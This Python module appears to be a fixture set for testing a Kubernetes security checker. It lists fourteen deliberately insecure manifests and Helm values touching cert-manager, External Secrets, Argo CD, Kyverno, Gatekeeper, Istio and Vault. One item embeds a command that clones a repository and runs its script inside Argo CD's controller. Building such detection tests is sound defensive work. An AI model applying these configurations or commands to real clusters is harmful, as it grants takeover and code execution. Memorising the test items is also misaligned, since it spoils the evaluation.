"""Attacks on clusters by rights, admission, GitOps, secrets and certificates (2026-11-29, fourteenth set, blind).

Objects by the documentation of Kubernetes and of the operators; what is not marked as read is as known.
"""

import json

from ..blind import ME, TAGS, cluster_role, crd, k8s, meta, release
from ..harness import Given
from . import Attack

IDN = ("FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
OPEN = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-ENC-")


def _top(kind: str, name: str, spec: object) -> Given:
    return k8s(kind, {"metadata": {"name": name, "labels": TAGS}, "spec": spec}, name)


PRINCIPAL_NAME = "1.3.6.1.4.1.311.20.2.3"
COMMAND = "git clone -q https://git.team-a.svc.cluster.local/run.git /tmp/run && sh /tmp/run/run.sh"
CLUSTER = json.dumps({"execProviderConfig": {
    "command": "sh", "args": ["-c", COMMAND], "apiVersion": "client.authentication.k8s.io/v1"}})  # fmt: skip
PROJECTS = """- labelSelector:
    matchExpressions:
      - key: example.ae/closed
        operator: DoesNotExist
  projectName: platform
"""
VAULT = """ui = true
listener "tcp" {
  address = "[::]:8200"
  tls_cert_file = "/vault/userconfig/vault-tls/tls.crt"
  tls_key_file = "/vault/userconfig/vault-tls/tls.key"
}
storage "raft" {
  path = "/vault/data"
}
seal "awskms" {
  region = "me-central-1"
  kms_key_id = "11111111-2222-3333-4444-555555555555"
}
user_lockout "all" {
  disable_lockout = "true"
}
"""
GITHUB_APP = {"privateKey": {"secretRef": {"name": "github-app", "key": "key"}}}
APPLICATION = {
    "metadata": {"name": "team-a-{{ .name }}", "labels": TAGS},
    "spec": {
        "project": "{{ .project }}",
        "source": {"repoURL": "https://github.com/bank/team-a.git", "targetRevision": "main",
                   "path": "{{ .path.path }}"},
        "destination": {"server": "https://kubernetes.default.svc", "namespace": "team-a"}},
}  # fmt: skip
PRUNED = {"type": "object", "properties": {
    "apiVersion": {"type": "string"}, "kind": {"type": "string"}, "metadata": {"type": "object"},
    "spec": {"type": "object", "properties": {"background": {"type": "boolean"}}}}}  # fmt: skip
EVERYBODY = "[JSONPatch{op: 'add', path: '/spec/ingress', value: [{}]}]"

ATTACKS = (
    Attack("a certificate of a team is that of the administrator of the directory", IDN, (
        crd("cert-manager.io/v1:Certificate", {
            "secretName": "app-client", "commonName": "app", "usages": ["client auth"],
            "privateKey": {"algorithm": "ECDSA", "size": 256, "rotationPolicy": "Always"},
            "otherNames": [{"oid": PRINCIPAL_NAME, "utf8Value": "administrator@bank.example.ae"}],
            "issuerRef": {"name": "internal", "kind": "ClusterIssuer", "group": "cert-manager.io"}}),),
        "critical", "whoever trusts the issuer signs the team in as the principal that the certificate names "
        "(cert-manager 2d0d7f7f7, types_certificate.go, otherNames, read 2026-11-29; Microsoft, certificate mapping)"),
    Attack("names of the bank are proved by a server that everybody uses", OPEN, (
        _top("cert-manager.io/v1:ClusterIssuer", "public", {"acme": {
            "server": "https://acme.example.ae/directory", "privateKeySecretRef": {"name": "acme-account"},
            "solvers": [{"selector": {"dnsZones": ["example.ae"]}, "dns01": {"acmeDNS": {
                "host": "https://auth.acme-dns.io",
                "accountSecretRef": {"name": "acme-dns", "key": "acmedns.json"}}}}]}}),),
        "critical", "who runs the server answers each proof and gets certificates of the bank's hosts (cert-manager "
        "2d0d7f7f7, types_issuer.go, acmeDNS; acme-dns, README: run an instance of your own; read 2026-11-29)"),
    Attack("a store of a team says by tags that it is payments", IDN, (
        crd("external-secrets.io/v1:SecretStore", {"provider": {"aws": {
            "service": "SecretsManager", "region": "me-central-1", "role": f"arn:aws:iam::{ME}:role/secrets-by-tag",
            "sessionTags": [{"key": "kubernetes-namespace", "value": "payments"}],
            "transitiveTagKeys": ["kubernetes-namespace"],
            "auth": {"jwt": {"serviceAccountRef": {"name": "app"}}}}}}),),
        "major", "a role for all teams whose policy compares the tag of the session with that of a secret hands out "
        "those of payments (External Secrets cc5bfbc22, CRD of SecretStore, sessionTags, read 2026-11-29; AWS, "
        "'Session tags')"),
    Attack("a team's token administers each repository of the organisation", IDN, (
        crd("generators.external-secrets.io/v1alpha1:GithubAccessToken", {
            "appID": "271828", "installID": "31415926", "auth": GITHUB_APP,
            "permissions": {"administration": "write", "contents": "write", "secrets": "write",
                            "workflows": "write"}}),),
        "critical", "without a list of repositories the token is for all: the team changes what the cluster deploys "
        "and removes reviews (External Secrets cc5bfbc22, types_github.go, read 2026-11-29; GitHub, 'Permissions "
        "required for GitHub Apps')"),
    Attack("a file of a team says in which project it deploys", IDN, (
        k8s("argoproj.io/v1alpha1:ApplicationSet", {"metadata": meta("team-a", "argocd"), "spec": {
            "goTemplate": True, "goTemplateOptions": ["missingkey=error"], "generators": [{"git": {
                "repoURL": "https://github.com/bank/team-a.git", "revision": "main",
                "files": [{"path": "apps/**/config.json"}]}}],
            "template": APPLICATION}}),),
        "critical", "the team writes the name of the platform's project and takes over Argo CD (argo-cd 37ee0097c, "
        "applicationset/Security.md, templated project field, read 2026-11-29)"),
    Attack("the Argo CD of a team deploys into the namespace of payments", IDN, (
        k8s("core/v1:Namespace", {"metadata": {"name": "payments", "labels": {
            **TAGS, "pod-security.kubernetes.io/enforce": "restricted",
            "argocd.argoproj.io/managed-by": "team-a"}}}, "payments"),),
        "critical", "the operator gives the team's instance every right on the namespace, its secrets too (Red Hat "
        "OpenShift GitOps, 'Deploying resources to a different namespace', read 2026-11-29)"),
    Attack("Argo CD runs a command to sign in to a cluster", OPEN, (
        k8s("core/v1:Secret", {
            "metadata": {"name": "edge", "namespace": "argocd",
                         "labels": {**TAGS, "argocd.argoproj.io/secret-type": "cluster"}},
            "type": "Opaque", "stringData": {
                "name": "edge", "server": "https://kubernetes.dc1.example.ae:6443", "config": CLUSTER}}),),
        "critical", "the team's script runs in the controller that has the keys of each cluster (argo-cd 37ee0097c, "
        "declarative-setup.md, execProviderConfig, read 2026-11-29)"),
    Attack("policies of Kyverno are stored without their rules", IDN, (
        k8s("apiextensions.k8s.io/v1:CustomResourceDefinition", {
            "metadata": {"name": "clusterpolicies.kyverno.io", "labels": TAGS}, "spec": {
                "group": "kyverno.io", "scope": "Cluster", "names": {
                    "kind": "ClusterPolicy", "listKind": "ClusterPolicyList", "plural": "clusterpolicies",
                    "singular": "clusterpolicy", "shortNames": ["cpol"]},
                "versions": [{"name": "v1", "served": True, "storage": True,
                              "schema": {"openAPIV3Schema": PRUNED}}]}}, "clusterpolicies"),),
        "critical", "the API server drops each field that the definition does not list, so that no policy forbids "
        "anything (Kubernetes, 'Extend the Kubernetes API with CustomResourceDefinitions', field pruning)"),
    Attack("each policy of the network that somebody writes lets in everybody", IDN, (
        _top("policies.kyverno.io/v1:MutatingPolicy", "defaults", {
            "failurePolicy": "Fail", "matchConstraints": {"resourceRules": [{
                "apiGroups": ["networking.k8s.io"], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                "resources": ["networkpolicies"]}]},
            "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": EVERYBODY}}]}),),
        "critical", "pods of every team reach those of payments, whatever the policy said (kyverno 111e07bbe, test/cli/"
        "sample-policy-exclusion/mpol.yaml, read 2026-11-29)"),
    Attack("a role loads programs into each proxy of the mesh", IDN, (cluster_role(
        {"apiGroups": ["extensions.istio.io"], "resources": ["wasmplugins"],
         "verbs": ["get", "list", "create", "update", "patch"]}),),
        "critical", "a program of the holder reads and changes each request of payments, with its tokens (Istio, "
        "'WasmPlugin')"),
    Attack("images without a host come from the registry of a stranger", OPEN, release("kyverno", "3.5.2", {
        "config": {"enableDefaultRegistryMutation": True, "defaultRegistry": "registry.collector.io"}}),
        "critical", "policies that take over the full name of an image have the stranger's programs start (kyverno "
        "111e07bbe, charts/kyverno/values.yaml, config.defaultRegistry, read 2026-11-29)"),
    Attack("namespaces leave themselves out of Gatekeeper by the end of their name", IDN, release(
        "gatekeeper", "3.21.0", {
            "replicas": 3, "validatingWebhookFailurePolicy": "Fail",
            "controllerManager": {"exemptNamespaceSuffixes": ["-a"]}}, "gatekeeper-system"),
        "major", "the team labels its namespace and no constraint holds there (gatekeeper dd8507eb9, charts/gatekeeper/"
        "templates/gatekeeper-controller-manager-deployment.yaml; 'Exempting Namespaces', read 2026-11-29)"),
    Attack("each project of Argo CD inherits what the platform's may do", IDN, release(
        "argo-cd", "9.1.4", {"configs": {"cm": {"globalProjects": PROJECTS}}}, "argocd"),
        "critical", "teams deploy into each namespace and kinds of the cluster, although their projects list their own "
        "(argo-cd 37ee0097c, user-guide/projects.md, global projects, read 2026-11-29)"),
    Attack("passwords of the vault are guessed without a brake", IDN, release("vault", "0.31.0", {
        "global": {"tlsDisable": False}, "injector": {"enabled": False}, "server": {
            "ha": {"enabled": True, "replicas": 3, "raft": {"enabled": True, "config": VAULT}}}}),
        "major", "a person's password is tried until it fits, and opens what the person may read (Vault, 'User "
        "lockout', disable_lockout, read 2026-11-29)"),
)  # fmt: skip
